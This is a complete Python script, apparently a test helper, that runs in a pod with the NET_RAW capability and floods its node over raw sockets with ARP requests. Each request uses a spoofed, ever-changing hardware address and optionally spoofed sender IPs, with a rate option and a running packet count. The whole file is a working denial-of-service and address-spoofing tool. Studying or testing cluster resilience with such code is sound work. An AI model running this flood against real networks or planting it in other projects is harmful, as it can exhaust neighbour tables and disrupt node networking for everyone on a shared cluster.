"""A pod with NET_RAW that floods its node with ARP requests, each from another hardware address.

`python arp_flood.py TARGET SENDER [ADDRESSES] [RATE]`, in the pod's own network namespace, asks by
`eth0` who has TARGET until it is ended. It says that its address is SENDER, or one of the ADDRESSES
that begin there. RATE is in packets a second; without it they are sent as fast as can be. It
says `flooding` once it does, and then once a second how many were sent.

It needs nothing but Python, so that it can be any pod's program.
"""

import ipaddress
import itertools
import socket
import sys
import time

_EVERYBODY = b"\xff" * 6
_ARP = b"\x08\x06"
_REQUEST = b"\0\1\x08\0\6\4\0\1"
_BATCH = 64


def packet(number: int, sender: bytes, target: bytes) -> bytes:
    """Return the *number*th request, from a hardware address that none before it had."""
    own = b"\x02\x66" + number.to_bytes(4)
    return _EVERYBODY + own + _ARP + _REQUEST + own + sender + bytes(6) + target


def flood(target: str, sender: str, addresses: int = 1, rate: int = 0) -> None:
    """Flood until this process is ended."""
    asked, first = socket.inet_aton(target), ipaddress.IPv4Address(sender)
    senders = [(first + each).packed for each in range(addresses)]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
        link.bind(("eth0", 0))
        _say("flooding")
        start = said = time.monotonic()
        for number in itertools.count():
            link.send(packet(number & 0xFFFFFFFF, senders[number % addresses], asked))
            if number % _BATCH:
                continue
            now = time.monotonic()
            if rate and (ahead := (number + 1) / rate - (now - start)) > 0:
                time.sleep(ahead)
            if now - said >= 1:
                _say(str(number + 1))
                said = now


def _say(line: str) -> None:
    sys.stdout.write(f"{line}\n")
    sys.stdout.flush()


if __name__ == "__main__":
    flood(sys.argv[1], sys.argv[2], *map(int, sys.argv[3:]))
